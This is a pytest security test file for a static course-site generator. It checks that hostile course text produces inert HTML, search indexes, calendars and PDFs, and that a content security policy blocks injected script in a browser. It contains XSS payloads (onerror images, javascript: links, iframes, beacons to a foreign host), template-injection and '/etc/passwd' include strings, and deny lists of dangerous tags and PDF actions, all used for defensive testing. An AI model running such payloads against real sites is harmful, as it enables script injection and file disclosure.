"""A course with something hostile in every text: whatever is built of it does nothing, and asks nobody."""

import json
import re
from collections.abc import Iterator
from typing import Any
from urllib.parse import urlsplit

import pypdfium2
import pytest
from playwright.sync_api import Browser, ConsoleMessage, Page, Route
from pypdf import PdfReader
from pypdf.generic import ArrayObject, DictionaryObject, IndirectObject

from generator.checking.check import Checked
from generator.findings.message import severity
from tests.browser.test_finding import search
from tests.hostile.conftest import LANGUAGE
from tests.hostile.fragments import FOREIGN, PRODUCT, SECRET, SIGN
from tests.publishing.built import BuiltSite, is_of_a_rule
from tests.publishing.html_page import Element

LOADING = {"src", "srcset", "data", "poster", "background", "action", "formaction", "ping", "manifest"}
"""Attributes whose address is asked without anybody's doing."""
FOLLOWED = {"http", "https", "mailto", "tel"}
INACTIVE = {"/Link", "/URI", "/GoTo", None}
"""What a link in a PDF may be, and do."""
TIMEOUT = 20_000


def pages(built: BuiltSite) -> dict[str, Element]:
    return {path: page for path, page in built.pages.items() if not is_of_a_rule(path)}


def elements(built: BuiltSite) -> Iterator[tuple[str, Element]]:
    for path, page in pages(built).items():
        yield from ((path, element) for element in page.walk())


def test_the_course_passes_the_check(checked: Checked) -> None:
    assert [finding for finding in checked.findings if severity(finding) == "error"] == []


# In the pages


def test_no_page_has_a_script_but_the_sites_own(built: BuiltSite) -> None:
    for path, element in elements(built):
        if element.tag == "script" and (source := element.attributes.get("src")):
            assert re.fullmatch(r"(?:\.\./)*assets/[\w./-]+\.js", source), path


def test_no_element_reacts_to_an_event_by_itself(built: BuiltSite) -> None:
    for path, element in elements(built):
        assert [name for name in element.attributes if name.startswith("on")] == [], (path, element.tag)


def test_nothing_is_loaded_from_elsewhere(built: BuiltSite) -> None:
    for path, element in elements(built):
        asked = [value for name, value in element.attributes.items() if name in LOADING]
        asked += [element.attributes["href"]] if element.tag in ("link", "use", "image", "base") else []
        for address in asked:
            assert not urlsplit(address).netloc, (path, element.tag, address)
            assert urlsplit(address).scheme in ("", "data"), (path, element.tag, address)


def test_links_lead_where_links_may_lead(built: BuiltSite) -> None:
    for path, element in elements(built):
        if element.tag == "a" and "href" in element.attributes:
            scheme = urlsplit(element.attributes["href"]).scheme
            assert scheme in FOLLOWED | {""}, (path, element.attributes["href"])


def test_no_page_holds_what_could_become_another_page(built: BuiltSite) -> None:
    refused = {"iframe", "object", "embed", "base", "frame", "applet", "foreignobject", "math", "portal"}
    for path, element in elements(built):
        assert element.tag not in refused, path
        assert element.attributes.get("http-equiv", "") in ("", "Content-Security-Policy"), path


def test_a_style_in_an_element_says_how_wide_it_is_and_nothing_else(built: BuiltSite) -> None:
    for path, element in elements(built):
        style = element.attributes.get("style", "width: 1%")
        assert re.fullmatch(r"width: [0-9.]+%;?", style), (path, style)


def test_nothing_was_worked_out_or_read(built: BuiltSite) -> None:
    for path in built.output.rglob("*"):
        if path.suffix in (".html", ".js", ".json", ".ics", ".txt", ".xml"):
            text = path.read_text(encoding="utf-8")
            assert PRODUCT not in text, path
            assert SECRET not in text, path


def test_what_was_written_is_read_as_it_was_written(built: BuiltSite) -> None:
    """Harmless, not lost: a title with a tag in it is a title about a tag."""
    text = " ".join(page.line() for page in pages(built).values())
    for sign in ("{{ 7919*7927 }}", f"<script>window.{SIGN}=1</script>", "{% include '/etc/passwd' %}"):
        assert sign in text


def test_the_searchs_index_is_data(built: BuiltSite) -> None:
    text = (built.output / f"{LANGUAGE}/search/search_index.js").read_text(encoding="utf-8")
    index = json.loads(text.removeprefix("var __index = ").rstrip(";\n"))
    for entry in index["docs"]:
        assert not re.search(r"<(?:script|img|svg|iframe|link|style)\b", entry["text"] + entry["title"])


def test_a_calendar_holds_only_its_own_events(built: BuiltSite) -> None:
    for path in built.output.rglob("*.ics"):
        lines = path.read_bytes().decode().split("\r\n")
        begun = [line for line in lines if line.startswith("BEGIN:")]
        assert set(begun) == {"BEGIN:VCALENDAR", "BEGIN:VEVENT"}
        assert begun.count("BEGIN:VEVENT") == sum(line.startswith("UID:") for line in lines)


# In the PDFs


def test_a_pdf_runs_nothing_and_opens_nothing_but_links(built: BuiltSite) -> None:
    for path in built.output.rglob("*.pdf"):
        for part in parts(PdfReader(path)):
            assert not {"/JS", "/JavaScript", "/AA", "/EmbeddedFiles", "/EF", "/XFA"} & part.keys(), path
            if "/S" in part and part.get("/Type") in (None, "/Action") and ("/URI" in part or "/D" in part):
                assert part["/S"] in INACTIVE, path
            if "/URI" in part and part.get("/S") == "/URI":
                assert urlsplit(str(part["/URI"])).scheme in FOLLOWED, part["/URI"]
            assert part.get("/S") not in ("/Launch", "/GoToR", "/GoToE", "/SubmitForm", "/ImportData"), path


def test_a_pdf_tells_nothing_of_the_machine(built: BuiltSite) -> None:
    for path in built.output.rglob("*.pdf"):
        text = "\n".join(page.get_textpage().get_text_range() for page in pypdfium2.PdfDocument(path))
        assert PRODUCT not in text
        assert SECRET not in text


def parts(reader: PdfReader) -> Iterator[DictionaryObject]:
    """Every dictionary of a PDF."""
    seen: set[int] = set()
    waiting: list[Any] = [reader.trailer]
    while waiting:
        one = waiting.pop()
        if isinstance(one, IndirectObject):
            if one.idnum in seen:
                continue
            seen.add(one.idnum)
            one = one.get_object()
        if isinstance(one, DictionaryObject):
            yield one
            waiting += one.values()
        elif isinstance(one, ArrayObject):
            waiting += one


# In a browser


class Victim:
    """A page that writes down what it asks for, runs or complains of, and reaches no host but the server."""

    def __init__(self, page: Page, server: str) -> None:
        self.page = page
        self.asked: list[str] = []
        self.said: list[str] = []
        page.set_default_timeout(TIMEOUT)
        host = urlsplit(server).netloc

        def answer(route: Route) -> None:
            if urlsplit(route.request.url).netloc == host or route.request.url.startswith(("data:", "blob:")):
                route.continue_()
                return
            self.asked.append(route.request.url)
            route.abort()

        page.route("**/*", answer)
        page.on("dialog", lambda dialog: (self.said.append(dialog.message), dialog.dismiss()))
        page.on("pageerror", lambda error: self.said.append(str(error)))
        page.on(
            "console", lambda one: self.said.append(one.text) if one.type in ("error", "warning") else None
        )
        page.on("popup", lambda one: self.said.append(f"popup {one.url}"))

    def _console(self, message: ConsoleMessage) -> None:
        if message.type in ("error", "warning"):
            self.said.append(message.text)

    def assert_unharmed(self, path: str) -> None:
        assert self.page.evaluate(f"window.{SIGN}") is None, path
        assert (self.asked, self.said) == ([], []), path


@pytest.fixture
def victim(browser: Browser, server: str) -> Iterator[Victim]:
    context = browser.new_context()
    yield Victim(context.new_page(), server)
    context.close()


def test_in_a_browser_nothing_runs_and_nobody_is_asked(victim: Victim, built: BuiltSite, server: str) -> None:
    for path in pages(built):
        victim.page.goto(f"{server}/{path}")
        victim.page.mouse.move(300, 300)
        victim.assert_unharmed(path)


@pytest.mark.parametrize("words", ["script", "onerror", "7919", "evil"])
def test_the_search_shows_what_it_finds_and_runs_none_of_it(victim: Victim, server: str, words: str) -> None:
    victim.page.goto(f"{server}/{LANGUAGE}/listening/sessions/hearing.html")
    search(victim.page, words)
    victim.assert_unharmed(words)


def test_the_host_stays_unknown_even_to_a_script_that_got_in(victim: Victim, server: str) -> None:
    """The policy holds where everything before it has failed."""
    victim.page.goto(f"{server}/{LANGUAGE}/index.html")
    victim.page.evaluate(
        """(host) => {
          const traps = [
            `<img src="http://${host}/a.png" onerror="window.pwned=1">`,
            `<iframe src="http://${host}/"></iframe>`,
            `<iframe srcdoc="&lt;script&gt;parent.pwned=1&lt;/script&gt;"></iframe>`,
            `<link rel="stylesheet" href="http://${host}/a.css">`,
            `<svg onload="window.pwned=1"></svg>`,
            `<object data="http://${host}/a"></object>`,
            `<a href="javascript:window.pwned=1" id="trap">x</a>`,
          ];
          for (const html of traps) document.body.insertAdjacentHTML("beforeend", html);
          const script = document.createElement("script");
          script.textContent = "window.pwned = 1";
          document.body.append(script);
          const other = document.createElement("script");
          other.src = `http://${host}/a.js`;
          document.body.append(other);
          document.getElementById("trap").click();
          fetch(`http://${host}/`).catch(() => {});
          navigator.sendBeacon(`http://${host}/`);
        }""",
        FOREIGN,
    )
    victim.page.wait_for_load_state("load")
    assert victim.page.evaluate(f"window.{SIGN}") is None
    assert victim.asked == []
    assert len(victim.said) >= 8, "each attempt is refused, and the browser says so"


def test_a_page_lets_itself_be_seen_without_a_complaint_in_light_and_dark(
    browser: Browser, built: BuiltSite, server: str
) -> None:
    """From a server and from a disk, the search and the scripts of each kind of page at work."""
    kinds = ["index", "listening/index", "listening/sessions/hearing", "programmes/one-evening", "glossary",
             "listening/sheets/listening-week", "contribute/rules/f01", "downloads"]  # fmt: skip
    for root in (server, built.output.as_uri()):
        for scheme in ("light", "dark"):
            context = browser.new_context(color_scheme=scheme)
            page = context.new_page()
            said: list[str] = []
            page.add_init_script(
                "addEventListener('securitypolicyviolation', (one) => console.error(one.violatedDirective))"
            )
            page.on("console", lambda one, said=said: said.append(one.text) if one.type == "error" else None)
            page.goto(f"{root}/index.html")
            for path in kinds:
                page.goto(f"{root}/{LANGUAGE}/{path}.html")
            page.goto(f"{root}/{LANGUAGE}/listening/sessions/hearing.html")
            search(page, "mendengar")
            assert said == [], (root, scheme)
            context.close()
